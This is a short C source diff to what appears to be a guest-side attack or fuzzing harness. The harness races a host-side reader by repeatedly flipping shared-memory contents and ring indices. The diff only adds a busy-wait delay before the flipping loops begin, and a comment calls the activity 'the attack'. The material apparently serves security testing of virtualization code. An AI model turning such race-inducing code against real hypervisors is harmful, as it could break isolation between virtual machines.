@@ -43,6 +43,15 @@ static void wait_for_reader(void)
 	}
 }
 
+/* Gives it time to read that the attack begins */
+static void wait_to_begin(void)
+{
+	uint32_t i;
+
+	for (i = 0; i < 1000000; i++)
+		cpu_relax();
+}
+
 void shared_fill(uint64_t byte, uint64_t b)
 {
 	volatile uint8_t *shared = (volatile uint8_t *)QV_SCREEN_GPA;
@@ -86,6 +95,7 @@ void shared_flip(uint64_t a, uint64_t b)
 	volatile uint32_t *shared = (volatile uint32_t *)QV_SCREEN_GPA;
 	uint32_t i, value = 0;
 
+	wait_to_begin();
 	for (;;)
 		for (i = 0; i < SHARED / 4; i++)
 			if (i < INFO / 4 || i >= (INFO + 0x1000) / 4)
@@ -96,6 +106,7 @@ void shared_flip_indices(uint64_t a, uint64_t b)
 {
 	uint32_t right_tail = COMM[3], right_head = COMM[5], i;
 
+	wait_to_begin();
 	for (i = 0;; i++) {
 		COMM[3] = i & 1 ? right_tail : ~right_tail;
 		COMM[4] = i;
